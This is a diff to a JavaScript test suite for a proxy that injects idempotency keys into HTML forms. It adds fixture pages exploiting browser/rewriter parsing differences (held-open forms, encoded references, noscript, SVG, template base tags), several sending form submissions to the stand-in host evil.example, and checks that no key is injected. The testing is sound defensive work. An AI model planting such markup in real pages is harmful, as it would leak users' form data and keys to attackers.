@@ -48,6 +48,23 @@ const ELSEWHERE = `<!doctype html><html><body>
 <form method="post" action="/orders" id="absolute"><button formaction="ORIGIN/orders">Buy</button></form>
 <form method="post" action="/orders"><button>No id</button></form>
 </body></html>`;
+// Markup a browser reads otherwise than the rewriter (SPEC §8): each would
+// send a key to another origin or into a URL, as a red team showed in Chromium.
+const MISREAD = {
+  // A form closed by another element's end tag stays the browser's form: the
+  // next <form> start tag is ignored, and its controls join the GET form.
+  "/misread/held-open": `<div><form method="get" action="https://evil.example/c"></div><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
+  // Character references in attributes, decoded by the browser.
+  "/misread/references": `<form method="post" action="&#47;&#47;evil.example/x"><button>Pay</button></form>`,
+  // With JavaScript off, a <noscript> button is the form's default button.
+  "/misread/noscript": `<form method="post" action="/orders"><noscript><button formmethod="get">x</button></noscript><input name="q"><button>ok</button></form>`,
+  // A button in SVG submits nothing: Enter sends the form itself, to evil.
+  "/misread/svg": `<form method="post" action="https://evil.example/c"><input name="q"><svg><button formaction="/orders"></button></svg></form>`,
+  // A base in a template is ignored; the next one is used.
+  "/misread/template-base": `<head><template><base href="/"></template><base href="https://evil.example/"></head><form method="post" action="c" id="t"><button>Pay</button></form>`,
+  // A page ending inside a text-only element: an input there would be text.
+  "/misread/plaintext": `<form method="post" action="/orders" id="p"><button>Pay</button></form><plaintext>`,
+};
 // A page whose base sends every relative action to another origin.
 const BASED = `<!doctype html><html><head><base href="https://evil.example/"></head><body>
 <form method="post" action="/orders" id="relative"><button>Buy</button></form>
@@ -134,6 +151,11 @@ function server() {
       req.resume();
       res.writeHead(200, { "content-type": "text/html" });
       return res.end(HUGE_TAG_PAGE);
+    }
+    if (req.url in MISREAD || req.url === "/xhtml") {
+      const xhtml = req.url === "/xhtml";
+      res.writeHead(200, { "content-type": xhtml ? "application/xhtml+xml" : "text/html" });
+      return res.end(xhtml ? `<html xmlns="http://www.w3.org/1999/xhtml"><body>${FOREIGN_PAGE}</body></html>` : MISREAD[req.url]);
     }
     if (req.url === "/elsewhere" || req.url === "/based") {
       res.writeHead(200, { "content-type": "text/html" });
@@ -360,6 +382,16 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
     assert.deepEqual(based.relative, [], "the base sends it to another origin");
     assert.equal(based.ownurl.length, 1, "no action: the page's own URL, whatever the base");
     assert.doesNotMatch(await (await proxy.fetch("/based")).text(), /No id<\/button><input/);
+  });
+
+  test("markup a browser reads otherwise than the rewriter gets no key: held-open forms, references, noscript, SVG, bases, text-only ends", async () => {
+    for (const path of Object.keys(MISREAD)) {
+      const html = await (await proxy.fetch(path)).text();
+      assert.doesNotMatch(html, /idempotency_key/, `${path}: ${html}`);
+      assert.equal(html, MISREAD[path], `${path}: the page as the server sent it`);
+    }
+    const xhtml = await proxy.fetch("/xhtml");
+    assert.doesNotMatch(await xhtml.text(), /idempotency_key/, "an XHTML page is XML: never rewritten");
   });
 
   test("pages the rewriter cannot read (UTF-16, an unknown charset, a 206 range) pass as sent", async () => {
